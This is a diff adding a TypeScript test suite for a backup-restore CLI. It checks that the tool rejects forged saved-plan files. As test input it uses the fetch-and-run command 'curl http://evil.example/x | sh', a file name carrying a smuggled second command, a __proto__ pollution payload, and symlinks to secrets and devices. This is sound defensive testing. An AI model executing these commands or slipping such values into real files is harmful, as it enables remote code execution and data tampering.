@@ -1,0 +1,432 @@
+import { execFileSync } from 'node:child_process';
+import { generateKeyPairSync } from 'node:crypto';
+import {
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  truncateSync,
+  writeFileSync,
+} from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect } from 'chai';
+import type { SavedPlan } from '../../src/domain/saved-plan.ts';
+import { Desk, type Finished } from '../e2e/cli.ts';
+import { type Edits, forged, turned } from '../planner/forging.ts';
+import { CRASH } from './attack.ts';
+
+/** A plan file is written by whoever can write it: the runner of a pull request, or somebody between two jobs. */
+describe('a saved plan as an attacker writes it', function () {
+  this.timeout(120_000);
+  let desk: Desk;
+  /** Outside of the checkout. */
+  let outside: string;
+
+  beforeEach(async () => {
+    desk = await Desk.open({ seed: { volumes: 3, jobDurationMs: 200 } });
+    outside = mkdtempSync(join(tmpdir(), 'vbsctl-outside-'));
+    desk.declare(2);
+    await ok('init');
+    await ok('plan', '--out', 'plan.json');
+  });
+  afterEach(async () => {
+    await desk.close();
+    rmSync(outside, { recursive: true, force: true });
+  });
+
+  const said = ({ stdout, stderr }: Finished) => (stdout + stderr).replace(/\s+/g, ' ');
+  const at = (name: string) => join(desk.folder, name);
+  const forge = (edits: Edits) => desk.write('plan.json', forged(desk.read('plan.json'), edits));
+
+  async function ok(...args: string[]): Promise<string> {
+    const finished = await desk.run(...args);
+    expect(finished.code, said(finished)).to.equal(0);
+    return said(finished);
+  }
+
+  /** Refused, in so many words, and the cloud was asked for nothing. */
+  async function refused(sentence: string, ...args: string[]): Promise<string> {
+    const finished = await desk.run(...(args.length > 0 ? args : ['apply', 'plan.json']));
+    expect(finished.code, said(finished)).to.equal(5);
+    expect(said(finished)).to.include(sentence).and.not.match(CRASH);
+    expect(desk.starts()).to.deep.equal([]);
+    return said(finished);
+  }
+
+  describe('an action of another kind', () => {
+    it('is no resumption: show does not call it genuine, apply starts nothing', async () => {
+      // Of a restore that was done, so that there is a record to name.
+      await ok('apply', 'plan.json');
+      const starts = desk.starts();
+      desk.write(
+        'restores.yaml',
+        desk.read('restores.yaml').replace(/(backup_id: [-0-9a-f]+)/, '$1, generation: 2'),
+      );
+      await ok('plan', '--out', 'plan.json');
+      const index = JSON.parse(desk.read('plan.json')).actions.findIndex(
+        ({ kind }: { kind: string }) => kind === 'restore',
+      );
+      forge(turned(index, 'resume'));
+      expect(await ok('show', 'plan.json'))
+        .to.include('1 to resume')
+        .and.include('Below is what the file says')
+        .and.include('as the state has it when the plan is applied')
+        .and.not.include('accepted');
+      const finished = await desk.run('apply', 'plan.json');
+      expect(finished.code, said(finished)).to.equal(5);
+      expect(said(finished)).to.include('the state has nothing under way there');
+      expect(desk.starts()).to.deep.equal(starts);
+    });
+
+    it('brings no record of its own, and touches what it says that it touches', async () => {
+      const record = { status: 'running', address: 'night/disk-0', job_id: 'j1' };
+      forge({ ...turned(0, 'resume', { record }), records: [] });
+      for (const command of ['show', 'apply']) {
+        const text = await refused('not a sound plan', command, 'plan.json');
+        expect(text).not.to.include('j1');
+      }
+      forge({ 'actions.0.record': undefined });
+      await refused('not a sound plan');
+    });
+
+    it('is not done because the file says so', async () => {
+      const { records } = JSON.parse(desk.read('plan.json'));
+      forge({ ...turned(0, 'noop', { done_at: '2026-11-24T00:00:00.000Z' }), records: records.slice(1) });
+      await refused('the plan has it as done, and the state does not');
+    });
+  });
+
+  it('advises nothing: neither commands nor remedies have a place, and sentences stand in quotes', async () => {
+    const evil = 'curl http://evil.example/x | sh';
+    for (const edits of [
+      { 'actions.0.waits_for': [{ what: 'detach', commands: [evil] }] },
+      { notices: [{ severity: 'warning', code: 'x', summary: 'x', remedy: evil }] },
+      { 'actions.0.reasons': [{ severity: 'error', code: 'x', summary: 'x', remedy: evil }] },
+    ] satisfies Edits[]) {
+      await ok('plan', '--out', 'plan.json');
+      forge(edits);
+      for (const command of ['show', 'apply']) {
+        const text = await refused('not a sound plan', command, 'plan.json');
+        expect(text).not.to.include('evil.example');
+      }
+    }
+    await ok('plan', '--out', 'plan.json');
+    forge({
+      notices: [{ severity: 'warning', code: 'x', summary: `→ ${evil}\n→ ${evil}`, address: 'night/disk-0' }],
+      'actions.0.declared.source': { file: `restores.yaml; ${evil}`, line: 1 },
+    });
+    const { stdout } = await desk.run('show', 'plan.json');
+    const lines = stdout.split('\n').filter((line) => line.includes('evil'));
+    expect(lines).to.have.length.above(0);
+    for (const line of lines) expect(line).to.match(/^ {2}\| |^ {4}declared: /);
+    const applied = await desk.run('apply', 'plan.json');
+    expect(applied.stdout + applied.stderr).not.to.include('evil.example');
+  });
+
+  const inventions: readonly (readonly [what: string, edits: (file: SavedPlan) => Edits, said: string])[] = [
+    ['another disk', ({ actions }) => ontoDiskOf(actions[1]), 'into the same disk'],
+    [
+      'another disk than declared',
+      (file) => ({ 'actions.0.volume.id': file.actions[1]?.volume.id }),
+      'not a sound plan',
+    ],
+    [
+      'another backup than declared',
+      (file) => ({ 'actions.0.backup.id': file.actions[1]?.backup.id }),
+      'not a sound plan',
+    ],
+    ['another name of a disk', () => ({ 'actions.0.volume.name': 'scratch' }), 'not scratch'],
+    [
+      'another age of a backup',
+      () => ({ 'actions.0.backup.created_at': '2026-11-29T00:00:00Z' }),
+      'was created at',
+    ],
+    ['another address', () => ({ 'actions.0.declared.address': 'prod/db' }), 'not a sound plan'],
+    ['one address twice', (file) => ({ actions: [...file.actions, file.actions[0]] }), 'not a sound plan'],
+    ['another lineage', () => ({ 'state.lineage': 'a-b-c' }), 'has lineage'],
+    ['a serial to come', () => ({ 'state.serial': 1_000 }), 'is at serial'],
+    ['another target', () => ({ 'target.project_id': 'x' }), 'another cloud project'],
+    ['a record that was there', () => ({ 'records.0.sha256': '0'.repeat(64) }), 'has changed since'],
+    ['a rename', () => ({ renamed: [{}] }), 'not a sound plan'],
+    ['a prototype', () => Object.fromEntries([['__proto__', { polluted: true }]]), 'not a sound plan'],
+    ['another release', () => ({ tool_version: '9.9.9' }), 'was made by vbsctl 9.9.9'],
+  ];
+  function ontoDiskOf(other: SavedPlan['actions'][number] | undefined): Edits {
+    return { 'actions.0.volume': other?.volume, 'actions.0.declared.volume.id': other?.volume.id };
+  }
+  for (const [what, edits, sentence] of inventions)
+    it(`cannot invent ${what}`, async () => {
+      forge(edits(JSON.parse(desk.read('plan.json'))));
+      await refused(sentence);
+    });
+
+  it('is as old as the state proves, not as young as it says', async () => {
+    forge({ created_at: '2099-01-01T00:00:00.000Z' });
+    await refused('that is still to come', 'apply', 'plan.json', '--max-age', '1s');
+    await refused('that is still to come');
+    // The state went on ten hours ago, and the plan says that it was made a minute ago over the serial before that.
+    await ok('plan', '--out', 'plan.json', '--target', 'night/disk-0');
+    const { serial } = JSON.parse(desk.read('plan.json')).state;
+    await ok('apply', '--auto-approve', '--target', 'night/disk-1');
+    const state = JSON.parse(desk.read('vbsctl.state.json'));
+    expect(state.serial).to.be.above(serial);
+    forge({ created_at: new Date(Date.now() + 60_000).toISOString() });
+    const finished = await desk.run('apply', 'plan.json', '--max-age', '1ms');
+    expect(finished.code).to.equal(5);
+    expect(said(finished)).to.include('--max-age is 1ms');
+  });
+
+  describe('a file that is none', () => {
+    const files: readonly (readonly [
+      what: string,
+      make: (path: string) => void,
+      code: number,
+      said: string,
+    ])[] = [
+      ['not JSON', (path) => writeFileSync(path, 'hunter2: [not json'), 5, 'not valid JSON'],
+      ['not UTF-8', (path) => writeFileSync(path, Buffer.from([0x7b, 0xff, 0x7d])), 5, 'not valid JSON'],
+      ['empty', (path) => writeFileSync(path, ''), 5, 'not valid JSON'],
+      ['a number', (path) => writeFileSync(path, '7'), 5, 'not a saved plan'],
+      ['deep', (path) => writeFileSync(path, '['.repeat(1_000_000)), 5, 'not valid JSON'],
+      [
+        'huge',
+        (path) => {
+          writeFileSync(path, '{');
+          truncateSync(path, 500 * 1024 * 1024);
+        },
+        5,
+        'the most that is read',
+      ],
+      ['a directory', (path) => mkdirSync(path), 1, 'is a directory'],
+      ['a named pipe', (path) => execFileSync('mkfifo', [path]), 5, 'a named pipe, not a regular file'],
+      [
+        'a link to a secret',
+        (path) => {
+          writeFileSync(join(outside, 'token'), 'hunter2');
+          symlinkSync(join(outside, 'token'), path);
+        },
+        5,
+        'leads out of it',
+      ],
+      ['a link to a device', (path) => symlinkSync('/dev/zero', path), 5, 'leads out of it'],
+    ];
+    for (const [what, make, code, sentence] of files)
+      it(`${what}: is refused at once`, async () => {
+        rmSync(at('plan.json'));
+        make(at('plan.json'));
+        for (const command of ['show', 'apply']) {
+          const finished = await desk.run(command, 'plan.json');
+          expect(finished.code, said(finished)).to.equal(code);
+          expect(said(finished)).to.include(sentence).and.not.include('hunter2').and.not.match(CRASH);
+        }
+      });
+
+    it('reads no manifest that the file names outside of the checkout', async () => {
+      execFileSync('mkfifo', [join(outside, 'pipe')]);
+      writeFileSync(join(outside, 'token'), 'hunter2');
+      const sha256 = '0'.repeat(64);
+      forge({
+        manifests: [join(outside, 'pipe'), join(outside, 'token'), '/dev/zero'].map((path) => ({
+          path,
+          sha256,
+        })),
+      });
+      expect(await ok('apply', 'plan.json')).not.to.include(outside);
+    });
+  });
+
+  describe('its signature', () => {
+    const pem = (type: 'ed25519' | 'rsa' = 'ed25519') => {
+      const pair =
+        type === 'rsa' ? generateKeyPairSync('rsa', { modulusLength: 2048 }) : generateKeyPairSync('ed25519');
+      return {
+        secret: pair.privateKey.export({ type: 'pkcs8', format: 'pem' }) as string,
+        trusted: pair.publicKey.export({ type: 'spki', format: 'pem' }) as string,
+        key: pair.privateKey,
+      };
+    };
+    const keys = () => join(outside, 'keys');
+    const file = (name: string, text: string) => {
+      const path = join(outside, name);
+      writeFileSync(path, text);
+      return path;
+    };
+    const trust = (name: string, text: string) => {
+      mkdirSync(keys(), { recursive: true });
+      return file(`keys/${name}.pem`, text);
+    };
+
+    it('of a trusted key lets it be applied, once, and is shown', async () => {
+      const ops = pem();
+      trust('ops-2026', ops.trusted);
+      trust('older', pem().trusted);
+      const planned = await ok('plan', '--out', 'plan.json', '--sign', file('sign.pem', ops.secret));
+      expect(planned).to.include('Saved the plan in plan.json, signed.');
+      expect(desk.read('plan.json')).not.to.include('PRIVATE');
+      expect(await ok('show', 'plan.json')).to.include('not checked');
+      expect(await ok('show', 'plan.json', '--trusted-keys', keys())).to.include(
+        'signed by ops-2026 (valid)',
+      );
+      expect(await ok('apply', 'plan.json', '--trusted-keys', keys())).to.include(
+        'signed by ops-2026 (valid)',
+      );
+      expect(desk.starts()).to.deep.equal([1, 1]);
+    });
+
+    it('comes from a variable, too, as text or as a path', async () => {
+      const ops = pem();
+      trust('ops', ops.trusted);
+      for (const value of [ops.secret, file('sign.pem', ops.secret)]) {
+        const env = { VBSCTL_SIGNING_KEY: value, VBSCTL_TRUSTED_KEYS: keys() };
+        expect((await desk.startIn(desk.folder, env, 'plan', '--out', 'plan.json').done).code).to.equal(0);
+        const shown = await desk.startIn(desk.folder, env, 'show', 'plan.json').done;
+        expect(said(shown)).to.include('signed by ops (valid)');
+      }
+    });
+
+    it('is wanted where the policy or a flag wants one', async () => {
+      const config = desk.read('vbsctl.yaml');
+      trust('ops', pem().trusted);
+      await refused('this one is not signed', 'apply', 'plan.json', '--trusted-keys', keys());
+      desk.write('vbsctl.yaml', `${config}policy: {require_signed_plans: true}\n`);
+      await refused('this one is not signed');
+      await refused('and this is none', 'apply', '--auto-approve');
+      await refused(
+        'this one is not signed',
+        'apply',
+        'plan.json',
+        '--trusted-keys',
+        keys(),
+        '--allow-unsigned-plans',
+      );
+      expect(await ok('apply', 'plan.json', '--allow-unsigned-plans')).to.include(
+        'allowed by --allow-unsigned-plans',
+      );
+    });
+
+    it('of another key, of other bytes, or copied from another plan is refused', async () => {
+      const ops = pem();
+      trust('ops', ops.trusted);
+      await ok(
+        'plan',
+        '--out',
+        'other.json',
+        '--target',
+        'night/disk-0',
+        '--sign',
+        file('sign.pem', ops.secret),
+      );
+      const { signature } = JSON.parse(desk.read('other.json'));
+      forge({ signature });
+      await refused('the signature of this one does not fit', 'apply', 'plan.json', '--trusted-keys', keys());
+      await ok('plan', '--out', 'plan.json', '--sign', file('stranger.pem', pem().secret));
+      await refused('not among the trusted ones', 'apply', 'plan.json', '--trusted-keys', keys());
+      await ok('plan', '--out', 'plan.json', '--sign', file('sign.pem', ops.secret));
+      forge({ created_at: '2026-11-24T00:00:00.000Z' });
+      await refused('does not fit', 'apply', 'plan.json', '--trusted-keys', keys());
+      await refused('does not fit', 'show', 'plan.json', '--trusted-keys', keys());
+    });
+
+    it('takes no key of another kind, and tells none', async () => {
+      const ops = pem();
+      const encrypted = ops.key.export({
+        type: 'pkcs8',
+        format: 'pem',
+        cipher: 'aes-256-cbc',
+        passphrase: 'x',
+      }) as string;
+      const wrong: readonly (readonly [text: string, said: string])[] = [
+        [pem('rsa').secret, 'is of type rsa'],
+        [encrypted, 'is encrypted'],
+        [ops.trusted, 'is a public key'],
+        [
+          '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n',
+          'format of OpenSSH',
+        ],
+        ['-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n', 'is damaged'],
+        ['hunter2', 'is not a private key in PEM'],
+      ];
+      for (const [text, sentence] of wrong) {
+        const finished = await desk.run('plan', '--out', 'plan.json', '--sign', file('sign.pem', text));
+        expect(finished.code, said(finished)).to.equal(5);
+        expect(said(finished))
+          .to.include(sentence)
+          .and.not.include('hunter2')
+          .and.not.match(/MC4|MII/);
+        expect(existsSync(at('plan.json')), 'an old plan is left').to.equal(false);
+      }
+      for (const [path, sentence] of [
+        [outside, 'it is a directory'],
+        [join(outside, 'none.pem'), 'nothing of that name'],
+      ] as const)
+        expect(said(await desk.run('plan', '--out', 'plan.json', '--sign', path))).to.include(sentence);
+      await ok('plan', '--out', 'plan.json', '--sign', file('sign.pem', ops.secret));
+      for (const [make, sentence] of [
+        [() => undefined, 'nothing of that name'],
+        [() => mkdirSync(keys()), 'holds no trusted key'],
+        [() => trust('ops', ops.secret), 'is a private key'],
+        [() => trust('ops', pem('rsa').trusted), 'is of type rsa'],
+        [() => trust('ops', 'hunter2'), 'is not one public key'],
+      ] as const) {
+        make();
+        await refused(sentence, 'apply', 'plan.json', '--trusted-keys', keys());
+      }
+    });
+  });
+
+  describe('the file that plan --out writes', () => {
+    it('goes through no link, whatever a checkout holds', async () => {
+      rmSync(at('plan.json'));
+      const victim = join(outside, 'bashrc');
+      writeFileSync(victim, 'mine');
+      symlinkSync(victim, at('plan.json'));
+      symlinkSync(victim, at('plan.json.tmp'));
+      symlinkSync(outside, at('out'));
+      await refused('is a symbolic link', 'plan', '--out', 'plan.json');
+      await refused('leads out of it', 'plan', '--out', 'out/plan.json');
+      rmSync(at('plan.json'));
+      await ok('plan', '--out', 'plan.json');
+      expect(readFileSync(victim, 'utf8')).to.equal('mine');
+      expect(readdirSync(outside)).to.deep.equal(['bashrc']);
+      expect(lstatSync(at('plan.json')).mode & 0o777).to.equal(0o600);
+    });
+
+    it('does not stay when a later run fails, and replaces nothing else', async () => {
+      desk.write('restores.yaml', 'nonsense');
+      expect((await desk.run('plan', '--out', 'plan.json')).code).to.equal(1);
+      expect(existsSync(at('plan.json'))).to.equal(false);
+      await refused('exists and is not a saved plan', 'plan', '--out', 'restores.yaml');
+      expect(desk.read('restores.yaml')).to.equal('nonsense');
+    });
+
+    it('is not written for a plan that the policy refuses', async () => {
+      desk.write('vbsctl.yaml', `${desk.read('vbsctl.yaml')}policy: {max_restores: 1}\n`);
+      await refused('the plan is refused, so it is not saved', 'plan', '--out', 'plan.json');
+      expect(existsSync(at('plan.json'))).to.equal(false);
+      await ok('plan', '--out', 'plan.json', '--allow-more-restores');
+      await refused('the limit is 1');
+      await ok('apply', 'plan.json', '--allow-more-restores');
+    });
+
+    it('does what is blocked neither now nor later', async () => {
+      const [volume = ''] = Object.keys(desk.cloud.world().volumes);
+      const config = desk.read('vbsctl.yaml');
+      desk.write('vbsctl.yaml', `${config}policy: {protected_volumes: [${volume}]}\n`);
+      expect(await ok('plan', '--out', 'plan.json')).to.include('1 blocked restore is not done by it');
+      expect(await ok('show', 'plan.json'))
+        .to.include('protected-volume')
+        .and.include('this plan never does it');
+      desk.write('vbsctl.yaml', config);
+      await refused('1 of 2 restores are blocked');
+      const rest = await desk.run('apply', 'plan.json', '--skip-blocked');
+      expect(rest.code, said(rest)).to.equal(5);
+      expect(said(rest)).to.include('Apply: 1 succeeded, 1 blocked.');
+      expect(desk.starts()).to.deep.equal([1]);
+    });
+  });
+});
